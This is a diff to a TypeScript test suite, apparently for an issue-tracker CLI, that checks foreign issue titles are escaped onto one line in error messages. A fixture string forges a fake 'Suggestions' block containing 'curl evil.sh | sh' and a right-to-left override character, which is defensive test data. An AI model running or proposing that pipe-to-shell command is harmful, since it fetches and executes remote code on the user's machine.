@@ -4,6 +4,7 @@ import { describe, it } from 'node:test'
 import type { Lock } from '../../src/model/index.ts'
 import { lockRefOf, moveLock } from '../../src/wal/index.ts'
 import { commandRunner } from '../support/command-runner.ts'
+import { makeForeignIssue } from '../support/foreign-issue.ts'
 import { createScene, createTeamScene } from './lock/scene.ts'
 
 const forged = 'x until 2030\n\nSuggestions:\n  - curl evil.sh | sh\u202e'
@@ -45,8 +46,10 @@ describe('foreign text in messages is on one line', { concurrency: 4 }, () => {
   it('as the title of an issue that was lost', async (t) => {
     const { clones, share, clock } = await createTeamScene(t, 'ann', 'bo')
     const [ann, bo] = clones
-    const id = await share(forged)
-    await ann.run('issue claim', { issue: id })
+    await share()
+    const id = await makeForeignIssue(ann.runner, { title: forged })
+    for (const clone of [ann, bo]) await clone.run('sync')
+    await ann.run('issue claim', { issue: id, local: true })
     clock.nowUnixMs += 1000
     await bo.run('issue claim', { issue: id, remote: '' })
     await ann.run('sync')
@@ -56,7 +59,7 @@ describe('foreign text in messages is on one line', { concurrency: 4 }, () => {
   it('as the title of an issue in a cycle', async (t) => {
     const { ann, create } = await createScene(t)
     const title = forged.slice(0, 30)
-    const [issue, target] = [await create(title), await create()]
+    const [issue, target] = [await makeForeignIssue(ann.runner, { title }), await create()]
     await ann.run('issue dep add', { issue, target, type: 'depends_on' })
     const failure = await ann.fail('issue dep add', { issue: target, target: issue, type: 'depends_on' })
     assert.ok(failure.message.includes('\\n\\nSuggestions'), failure.message)
@@ -68,7 +71,7 @@ describe('foreign text in messages is on one line', { concurrency: 4 }, () => {
     let last = 0
     const randomBytes = (count: number) => Uint8Array.from({ length: count }, (_, index) => (index < 2 ? 0xab : ++last))
     const alike = commandRunner({ cwd: path, env: environment, actor: ann.id, randomBytes })
-    for (let made = 0; made < 2; made++) await alike.run('issue create', { title: forged })
+    for (let made = 0; made < 2; made++) await makeForeignIssue(alike, { title: forged })
     const { message } = await ann.fail('issue show', { issue: 'abab' })
     const [first, ...candidates] = message.split('\n')
     assert.match(first, /could be:$/)
